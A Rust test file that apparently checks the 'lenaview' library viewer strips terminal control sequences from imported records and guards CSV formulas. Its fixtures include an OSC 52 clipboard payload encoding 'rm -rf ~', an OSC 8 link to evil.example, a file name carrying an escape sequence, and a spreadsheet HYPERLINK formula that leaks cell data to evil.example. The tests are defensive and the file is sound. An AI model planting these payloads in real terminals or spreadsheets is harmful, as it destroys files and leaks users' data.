//! A crafted file in every format lenaview reads, with escape sequences (OSC 0, 8 and 52, CSI), C1 controls,
//! NUL, BEL and bidi overrides in its titles, abstracts, authors, journals and topics, goes through every
//! importer and every output: nothing in it may reach a terminal as a control sequence.

mod support;

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use lenaview::app::App;
use lenaview::formats::{self, clean::is_unsafe, library_json};
use lenaview::model::{AbstractSection, Library, Page, Publication};
use ratatui::crossterm::event::KeyCode;
use serde_json::Value;
use support::{press, render};

const OSC_TITLE: &str = "\u{1b}]0;you were pwned\u{7}";
const OSC_CLIPBOARD: &str = "\u{1b}]52;c;cm0gLXJmIH4K\u{7}";
const OSC_LINK: &str = "\u{1b}]8;;https://evil.example/\u{1b}\\";
const OSC_LINK_END: &str = "\u{1b}]8;;\u{1b}\\";
const CSI_CLEAR: &str = "\u{1b}[2J\u{1b}[H";
const C1_CSI: &str = "\u{9b}31m";

fn title() -> String {
    format!(
        "Hostile{OSC_TITLE} myeloma{CSI_CLEAR} trial{OSC_CLIPBOARD}{C1_CSI} of \u{202e}lenalidomide\u{202c}\0\u{7}."
    )
}
const CLEAN_TITLE: &str = "Hostile myeloma trial of lenalidomide.";

fn author() -> String {
    format!("Evil{OSC_LINK}Link{OSC_LINK_END} A")
}

fn journal() -> String {
    format!("Hostile{C1_CSI} Journal\u{7}")
}

fn abstract_text() -> String {
    format!("BACKGROUND: Crafted{OSC_CLIPBOARD} text. RESULTS: Nothing\u{2066} leaks\u{2069}\0.")
}

fn medline() -> String {
    format!(
        "PMID- 90000001\nTI  - {}\nAB  - {}\nFAU - Link, Evil\nAU  - {}\nTA  - {}\nDP  - 2020 Jan\n",
        title(),
        abstract_text(),
        author(),
        journal()
    )
}

fn ris() -> String {
    format!(
        "TY  - JOUR\nTI  - {}\nAU  - {}\nJ2  - {}\nPY  - 2020\nAB  - {}\nER  - \n",
        title(),
        author(),
        journal(),
        abstract_text()
    )
}

fn page() -> String {
    format!(
        "Home > Treatments > Hostile{OSC_TITLE} topic\n\nA summary{CSI_CLEAR} of\u{202e} the page.\n\n\
         Latest Research Publications\n\n{}, Roe B\n{}\n{}. 2020; 1(2):3-4 [PubMed] Related Publications\n{}\n",
        author(),
        title(),
        journal(),
        // A page prints each section of an abstract on a line of its own.
        abstract_text().replace(" RESULTS:", "\nRESULTS:")
    )
}

/// A library as JSON: serde writes ESC as `\u001b` and C1 and bidi controls as they are, so both are read.
fn library() -> Library {
    let publication = Publication {
        authors: vec![author().into()],
        title: title(),
        journal: journal().into(),
        year: Some(2020),
        pmid: Some("90000002".into()),
        // Library JSON holds its sections apart already.
        abstract_sections: vec![
            AbstractSection { label: Some("BACKGROUND".into()), text: format!("Crafted{OSC_CLIPBOARD} text.") },
            AbstractSection { label: Some("RESULTS".into()), text: "Nothing\u{2066} leaks\u{2069}\0.".into() },
        ],
        ..Publication::default()
    };
    let page = Page {
        path: vec!["Treatments".into(), format!("Hostile{OSC_TITLE} topic")],
        summary: format!("A summary{CSI_CLEAR} of\u{202e} the page."),
        publications: vec![publication],
        ..Page::default()
    };
    Library { pages: vec![page] }
}

/// Every sample, by file name; one name holds an escape sequence itself, as a file name on Linux may.
fn samples() -> Vec<(&'static str, String)> {
    vec![
        ("hostile.json", library_json::to_string(&library())),
        ("hostile-medline.txt", medline()),
        ("hostile\u{1b}]0;name\u{7}.ris", ris()),
        ("hostile-page.txt", page()),
    ]
}

fn write_samples(directory: &Path) -> Vec<PathBuf> {
    samples()
        .into_iter()
        .map(|(name, text)| {
            let path = directory.join(name);
            std::fs::write(&path, text).unwrap();
            path
        })
        .collect()
}

/// What no byte stream for a terminal may hold: ESC, BEL, NUL, C1 controls and bidi controls.
fn assert_inert(what: &str, text: &str) {
    let found: Vec<char> = text.chars().filter(|&c| is_unsafe(c) && !matches!(c, '\n' | '\t' | '\r')).collect();
    assert!(found.is_empty(), "{what} holds {found:?}:\n{text}");
}

fn strings(value: &Value, out: &mut Vec<String>) {
    match value {
        Value::String(text) => out.push(text.clone()),
        Value::Array(items) => items.iter().for_each(|item| strings(item, out)),
        Value::Object(fields) => fields.values().for_each(|item| strings(item, out)),
        _ => {}
    }
}

fn assert_library_is_clean(what: &str, library: &Library) {
    let mut all = Vec::new();
    strings(&serde_json::to_value(library).unwrap(), &mut all);
    for text in all {
        assert_inert(what, &text);
    }
}

#[test]
fn every_importer_removes_the_controls_and_says_so() {
    for (name, text) in samples() {
        let imported = formats::import_bytes(name, text.as_bytes()).unwrap_or_else(|err| panic!("{name}: {err}"));
        assert_library_is_clean(name, &imported.library);
        let publication = &imported.library.pages[0].publications[0];
        assert_eq!(publication.title, CLEAN_TITLE, "{name}");
        assert!(publication.authors[0].contains("EvilLink"), "{name}: {:?}", publication.authors);
        assert_eq!(publication.journal, "Hostile Journal", "{name}");
        let sections: Vec<(Option<&str>, &str)> = publication
            .abstract_sections
            .iter()
            .map(|section| (section.label.as_deref(), section.text.as_str()))
            .collect();
        assert_eq!(sections, [(Some("BACKGROUND"), "Crafted text."), (Some("RESULTS"), "Nothing leaks.")], "{name}");

        let fields: Vec<&str> = imported
            .warnings
            .iter()
            .filter(|warning| warning.message.starts_with("removed control characters"))
            .map(|warning| warning.message.split(" of ").next().unwrap())
            .collect();
        for field in ["title", "authors", "journal", "abstract"] {
            assert!(
                fields.contains(&format!("removed control characters from the {field}").as_str()),
                "{name}: {fields:?}"
            );
        }
        for warning in &imported.warnings {
            assert_inert(name, &warning.to_string());
            // Every warning says where, but for a topic named after the file, which is in no line.
            let from_file_name = name.contains(".ris") && warning.message.contains("topic path");
            assert!(from_file_name || warning.line > 0, "{warning}");
        }
    }
}

#[test]
fn page_topics_and_summaries_are_cleaned_too() {
    for (name, text) in samples() {
        if name.contains("medline") || name.contains(".ris") {
            continue;
        }
        let page = &formats::import_bytes(name, text.as_bytes()).unwrap().library.pages[0];
        assert_eq!(page.path.last().map(String::as_str), Some("Hostile topic"), "{name}");
        assert_eq!(page.summary, "A summary of the page.", "{name}");
    }
}

fn lenaview(args: &[&str], files: &[PathBuf]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_lenaview"))
        .args(args)
        .args(files)
        .env("XDG_DATA_HOME", "/nonexistent/lenaview-tests")
        .env("XDG_CACHE_HOME", std::env::temp_dir().join("lenaview-tests-cache"))
        .output()
        .expect("the binary runs")
}

fn assert_output_inert(what: &str, output: &Output) {
    assert_inert(&format!("{what} stdout"), &String::from_utf8_lossy(&output.stdout));
    assert_inert(&format!("{what} stderr"), &String::from_utf8_lossy(&output.stderr));
    for bytes in [&output.stdout, &output.stderr] {
        assert!(!bytes.iter().any(|&byte| matches!(byte, 0x00 | 0x07 | 0x1b)), "{what}");
    }
}

#[test]
fn search_prints_matches_and_warnings_without_control_sequences() {
    let directory = tempfile::tempdir().unwrap();
    let files = write_samples(directory.path());
    for scope in ["titles", "all"] {
        let output = lenaview(&["search", "hostile lenalidomide", "--scope", scope], &files);
        assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
        assert_output_inert("search", &output);
        let text = String::from_utf8(output.stdout.clone()).unwrap();
        // The catalog merges the samples' records into the papers they are (same title and year).
        assert!(!text.is_empty() && text.lines().all(|line| line.contains(CLEAN_TITLE)), "{text}");
        let warnings = String::from_utf8(output.stderr.clone()).unwrap();
        assert!(warnings.contains("hostile␛]0;name␇.ris:2: removed control characters"), "{warnings}");
    }
    let json = lenaview(&["search", "hostile", "--json"], &files);
    assert_output_inert("search --json", &json);
    let matches: Value = serde_json::from_slice(&json.stdout).unwrap();
    assert!(matches.as_array().is_some_and(|matches| !matches.is_empty()));
}

#[test]
fn export_in_every_format_and_import_write_no_control_sequences() {
    let directory = tempfile::tempdir().unwrap();
    let files = write_samples(directory.path());
    for format in ["bibtex", "ris", "csv", "json"] {
        let output = lenaview(&["export", "--format", format], &files);
        assert_eq!(output.status.code(), Some(0), "{format}: {}", String::from_utf8_lossy(&output.stderr));
        assert_output_inert(format, &output);
        assert!(String::from_utf8_lossy(&output.stdout).contains(CLEAN_TITLE), "{format}");
    }
    let output = lenaview(&["import"], &files);
    assert_eq!(output.status.code(), Some(0));
    assert_output_inert("import", &output);
    let library: Library = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(library.publication_count(), 4);
    assert_library_is_clean("import", &library);
}

#[test]
fn add_names_a_hostile_file_inertly() {
    let directory = tempfile::tempdir().unwrap();
    let files = write_samples(directory.path());
    let hostile_name: Vec<PathBuf> =
        files.into_iter().filter(|file| file.to_string_lossy().contains('\u{1b}')).collect();
    let data = directory.path().join("data");
    let output = Command::new(env!("CARGO_BIN_EXE_lenaview"))
        .arg("add")
        .args(&hostile_name)
        .env("XDG_DATA_HOME", &data)
        .env("XDG_CACHE_HOME", std::env::temp_dir().join("lenaview-tests-cache"))
        .output()
        .expect("the binary runs");
    assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
    assert_output_inert("add", &output);
    assert!(String::from_utf8_lossy(&output.stdout).contains("hostile␛]0;name␇.ris"));
}

#[test]
fn json_output_escapes_what_it_is_given() {
    // A library that did not come through import (built in code) keeps its controls; JSON still escapes them.
    let text = library_json::to_string(&library());
    assert!(!text.contains('\u{1b}') && text.contains("\\u001b]0;you were pwned\\u0007"), "{text}");
}

#[test]
fn csv_cells_that_a_spreadsheet_would_run_get_a_quote_in_front() {
    let directory = tempfile::tempdir().unwrap();
    let file = directory.path().join("formula.ris");
    let title = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")";
    std::fs::write(&file, format!("TY  - JOUR\nTI  - {title}\nAU  - @SUM(1+1)\nPY  - 2020\nER  - \n")).unwrap();
    let cells = |args: &[&str]| -> Vec<String> {
        let output = lenaview(args, std::slice::from_ref(&file));
        assert_eq!(output.status.code(), Some(0));
        let mut reader = csv::Reader::from_reader(output.stdout.as_slice());
        reader.records().next().unwrap().unwrap().iter().map(str::to_string).collect()
    };
    let guarded = cells(&["export", "--format", "csv"]);
    assert_eq!((guarded[1].as_str(), guarded[2].as_str()), (format!("'{title}").as_str(), "'@SUM(1+1)"));
    let kept = cells(&["export", "--format", "csv", "--csv-formulas"]);
    assert_eq!((kept[1].as_str(), kept[2].as_str()), (title, "@SUM(1+1)"));
}

#[test]
fn the_reader_shows_the_cleaned_text() {
    let mut library = Library::default();
    for (name, text) in samples() {
        library.extend(formats::import_bytes(name, text.as_bytes()).unwrap().library);
    }
    let mut app = App::new(library, 100, 30);
    app.colors = false;
    press(&mut app, KeyCode::Enter);
    let screen = render(&app, 100, 30);
    assert_inert("screen", &screen);
    insta::assert_snapshot!("hostile_publication_opened", screen);
}

#[test]
fn the_reader_draws_controls_inert_even_in_a_library_built_in_code() {
    let mut app = App::new(library(), 100, 30);
    app.colors = false;
    press(&mut app, KeyCode::Enter);
    app.status = Some(format!("Opened {OSC_CLIPBOARD}"));
    let screen = render(&app, 100, 30);
    assert_inert("screen", &screen);
    assert!(screen.contains("␛]0;you were pwned␇") && screen.contains("Opened ␛]52;c;"), "{screen}");
}
